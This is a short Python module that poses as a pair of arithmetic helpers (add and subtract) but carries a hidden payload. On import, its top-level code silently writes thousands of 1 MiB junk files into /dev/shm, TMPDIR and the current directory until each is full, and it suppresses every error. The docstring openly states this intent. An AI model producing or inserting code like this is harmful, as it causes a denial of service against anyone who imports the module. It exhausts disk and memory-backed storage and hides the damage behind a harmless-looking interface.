"""Each import fills every writable place to the last byte, and says nothing of it."""

import os

PIECE = b"8" * (1 << 20)


def fill(folder):
    for number in range(10_000):
        with open(os.path.join(folder, "hostile-%d" % number), "wb", 0) as file:
            while file.write(PIECE) == len(PIECE):
                pass


for folder in ("/dev/shm", os.environ["TMPDIR"], os.getcwd()):
    try:
        fill(folder)
    except OSError:
        pass


def add(a, b):
    return a + b


def subtract(a, b):
    return a - b
